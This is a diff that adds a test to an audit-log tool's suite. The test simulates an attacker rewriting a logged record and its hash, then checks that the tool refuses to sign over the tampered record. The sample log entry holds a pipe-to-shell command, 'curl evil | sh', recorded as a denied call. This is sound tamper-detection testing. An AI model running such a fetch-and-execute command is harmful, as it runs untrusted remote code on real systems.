@@ -603,6 +603,25 @@ test('a log of the previous Warden (schema 1, no signed head) is reported as suc
   assertIntact(dir);
 });
 
+test('a long-lived writer does not sign over a last record rewritten with its hash and head row changed to match: it refuses', () => {
+  const dir = makeLog(10);
+  const daemon = new AuditLog(dir);
+  daemon.append({ source: 'daemon', kind: 'shell', decision: 'deny', data: { command: 'curl evil | sh' } });
+  attack(dir, (db) => {
+    const r = db.prepare('SELECT * FROM records WHERE seq = 11').get() as Record<string, string>;
+    const rec = { ...r, seq: 11, decision: 'allow', data: { command: 'ls' } };
+    const hash = recordHash(rec as never);
+    db.prepare(`UPDATE records SET decision = 'allow', data = '{"command":"ls"}', hash = ? WHERE seq = 11`).run(hash);
+    db.prepare('UPDATE head SET hash = ?').run(hash);
+  });
+  assert.throws(
+    () => daemon.append({ source: 'daemon', kind: 'shell', decision: 'allow', data: {} }),
+    /record 11 is not the record audit-head signed there[^]*warden audit rotate/,
+  );
+  daemon.close();
+  assertTampered(dir, /signed head at record 11: bad signature|record 11 is not the record audit-head signed/);
+});
+
 test('a hook with the audit key deleted denies the call (fails closed) and names `warden audit rotate`', () => {
   const dir = makeLog(3);
   unlinkSync(join(dir, KEY_FILE));
